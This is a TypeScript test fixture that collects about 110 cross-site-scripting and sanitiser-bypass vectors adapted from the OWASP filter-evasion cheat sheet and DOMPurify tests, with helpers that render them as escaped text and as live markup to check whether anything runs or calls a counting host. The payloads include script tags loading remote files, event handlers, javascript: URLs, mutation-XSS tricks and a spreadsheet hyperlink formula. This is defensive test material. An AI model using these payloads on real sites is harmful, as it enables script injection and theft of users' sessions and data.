/**
 * Ways in which markup gets to run or to ask a server, as two public collections name them: the OWASP XSS Filter Evasion
 * Cheat Sheet, and the cases of the tests of DOMPurify where what was cleaned becomes something else when it is read a
 * second time. Each is written anew for what we look for: `RUN` marks that it ran, `HOST` is a server that counts.
 */
const written: readonly string[] = [
  // Plain, broken and oddly quoted tags.
  '<SCRIPT SRC=HOST/xss.js></SCRIPT>',
  '<script>RUN</script>',
  '<sCrIpT>RUN</ScRiPt>',
  '<<SCRIPT>RUN//\\<</SCRIPT>',
  '<SCRIPT/XSS SRC="HOST/xss.js"></SCRIPT>',
  '<SCRIPT SRC=HOST/xss.js?< B >',
  '<SCRIPT SRC=//HOST/.j>',
  '<SCRIPT a=">" SRC="HOST/xss.js"></SCRIPT>',
  '<SCRIPT =">" SRC="HOST/xss.js"></SCRIPT>',
  `<SCRIPT a=">'>" SRC="HOST/xss.js"></SCRIPT>`,
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="HOST/xss.js"></SCRIPT>',
  '</TITLE><SCRIPT>RUN</SCRIPT>',
  `"><script>RUN</script>`,
  `';RUN;//`,
  `\\";RUN;//`,
  '<IMG """><SCRIPT>RUN</SCRIPT>"\\>',
  '<!--[if gte IE 4]><SCRIPT>RUN</SCRIPT><![endif]-->',
  // Pictures and handlers.
  '<IMG SRC="javascript:RUN">',
  '<IMG SRC=JaVaScRiPt:RUN>',
  '<IMG SRC=`javascript:RUN`>',
  '<IMG SRC="jav\tascript:RUN">',
  '<IMG SRC="jav&#x09;ascript:RUN">',
  '<IMG SRC="jav&#x0A;ascript:RUN">',
  '<IMG SRC=" &#14; javascript:RUN">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN>',
  '<IMG SRC=# onmouseover="RUN">',
  '<IMG SRC= onmouseover="RUN">',
  '<IMG onmouseover="RUN">',
  '<IMG SRC=/ onerror="RUN"></img>',
  '<img src=x onerror="&#82;UN;RUN">',
  '<img src=x:x onerror=RUN>',
  '<IMG DYNSRC="javascript:RUN" LOWSRC="HOST/low.png">',
  '<INPUT TYPE="IMAGE" SRC="HOST/input.png" onerror=RUN>',
  '<BODY BACKGROUND="HOST/body.png" ONLOAD=RUN>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=RUN>',
  '<svg/onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg><use href="HOST/use.svg#x"/></svg>',
  '<svg><image href="HOST/image.png" onerror=RUN></svg>',
  '<math href="javascript:RUN">x</math>',
  '<details open ontoggle=RUN><summary>x</summary></details>',
  '<audio src=x onerror=RUN></audio><video poster=HOST/poster.png><source onerror=RUN></video>',
  '<marquee onstart=RUN>x</marquee>',
  '<input autofocus onfocus=RUN><select autofocus onfocus=RUN></select>',
  '<div style="animation-name:x" onanimationstart=RUN></div>',
  // Links, frames, styles, and what loads by itself.
  '<a href="javascript:RUN">x</a>',
  '<a href="java\0script:RUN">x</a>',
  '<a href="\u0001javascript:RUN">x</a>',
  '<a href="data:text/html,<script>RUN</script>">x</a>',
  '<A HREF="//HOST/" ping="HOST/ping" onmouseover=RUN>x</A>',
  '<IFRAME SRC="javascript:RUN;"></IFRAME>',
  '<IFRAME SRC="HOST/frame"></IFRAME>',
  `<iframe srcdoc="<script>parent.ran=1;RUN</script><img src='HOST/srcdoc.png'>"></iframe>`,
  '<FRAMESET><FRAME SRC="javascript:RUN"></FRAMESET>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zy8+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="HOST/scriptlet.html"></OBJECT>',
  '<LINK REL="stylesheet" HREF="HOST/xss.css">',
  '<link rel=prefetch href=HOST/prefetch><link rel=preload as=image href=HOST/preload.png>',
  `<STYLE>@import'HOST/import.css';</STYLE>`,
  `<STYLE>li {list-style-image: url("HOST/list.png");}</STYLE><UL><LI>x</br>`,
  '<DIV STYLE="background-image: url(HOST/background.png)">x</DIV>',
  '<DIV STYLE="width: expression(RUN);">x</DIV>',
  '<STYLE>.x{-moz-binding:url("HOST/binding.xml#x");}</STYLE>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:RUN;">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;URL=HOST/refresh">',
  '<META HTTP-EQUIV="Link" Content="<HOST/link.css>; REL=stylesheet">',
  '<BASE HREF="javascript:RUN;//">',
  '<base href="HOST/base/">',
  '<TABLE BACKGROUND="HOST/table.png"><TD BACKGROUND="javascript:RUN">x</TABLE>',
  '<form action="javascript:RUN"><button formaction="javascript:RUN">x</button></form>',
  '<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:RUN">]]></C></X></XML>',
  '<? echo "<script>RUN</script>" ?>',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '\u00BCscript\u00BERUN\u00BC/script\u00BE',
  '%3Cscript%3ERUN%3C%2Fscript%3E',
  '&lt;img src=x onerror=RUN&gt;',
  '\\u003cimg src=x onerror=RUN\\u003e',
  // What changes when it is read a second time.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
  '<svg><p><style><g title="</style><img src=x onerror=RUN>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror="RUN"></style></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<listing>&lt;img onerror="RUN" src=x&gt;</listing>',
  '<xmp><p title="</xmp><svg/onload=RUN>">',
  '<textarea><p title="</textarea><img src=x onerror=RUN>">',
  '<title><a title="</title><img src=x onerror=RUN>">',
  '<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>',
  '<noembed><p title="</noembed><img src=x onerror=RUN>">',
  '<plaintext><img src=x onerror=RUN>',
  '<style><!--</style><script>RUN//--></script>',
  '<![CDATA[ ><img src onerror=RUN> ]]>',
  '<!--><img src=x onerror=RUN>-->',
  '<!-- --!><img src=x onerror=RUN> -->',
  '<img alt="`><img src=x onerror=RUN>`">',
  '<x><svg><![CDATA[<x title="]]><img src=1 onerror=RUN>">',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=RUN>">',
  '<template><img src=x onerror=RUN></template><div><template shadowrootmode=open><img src=x onerror=RUN></template></div>',
  '<option><style></option></select><b><img src=x onerror=RUN></style></option>',
  '<a id=x><a id=x name=attributes><form id=x onmouseover=RUN><input name=removeChild>',
  '<img name=getElementById><form name=body><input name=parentNode>',
  // What templates and sheets would take for more than words.
  '{{constructor.constructor("RUN")()}}',
  '<div v-html="`<img src=x onerror=RUN>`" :onload="RUN" @click="RUN"></div>',
  '${RUN}',
  '[x](javascript:RUN) ![x](HOST/markdown.png) <img src=x onerror=RUN>',
  '=HYPERLINK("HOST/sheet","x")'
]

/** That something ran can be seen in any page. */
const run = 'globalThis.ran=1'

/** @param host where a request would go to */
export const vectors = (host: string): string[] =>
  written.map((one) =>
    one.replaceAll('RUN', run).replaceAll('//HOST', host.replace('http:', '')).replaceAll('HOST', host)
  )

const asWords = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
/** Lets the visited page itself do nothing of it: what then happens, happens with us. */
const headers = { 'content-security-policy': "default-src 'none'; sandbox allow-same-origin" }
const top = (title: string, host: string) =>
  `<!doctype html><html lang="en"><meta charset="utf-8"><title>${asWords(title)}</title><script type="application/ld+json">${JSON.stringify(
    {
      '@context': 'https://schema.org',
      '@type': 'Article',
      headline: title,
      author: { '@type': 'Person', name: title },
      image: `${host}/kept.png`
    }
  ).replaceAll('<', String.raw`\u003c`)}</script><h1>${asWords(title)}</h1>`
const sentence = 'These are words that a page about how markup is misused would show to whoever reads it. '

/** A page that shows them as words, one a paragraph, and one that has them as markup. */
export function vectorPages(host: string) {
  const all = vectors(host)
  const shown = all.map((one) => `<p>${sentence}${asWords(one)}</p>`).join('\n')
  const title = '<img src=x onerror=globalThis.ran=1>Ways in'
  return {
    '/vectors-as-words': { body: `${top(title, host)}<article>${shown}</article>`, headers },
    '/vectors-as-markup': {
      body: `${top(title, host)}<article>${`<p>${sentence}</p>`.repeat(8)}${all.join('\n')}</article>`,
      headers
    }
  }
}
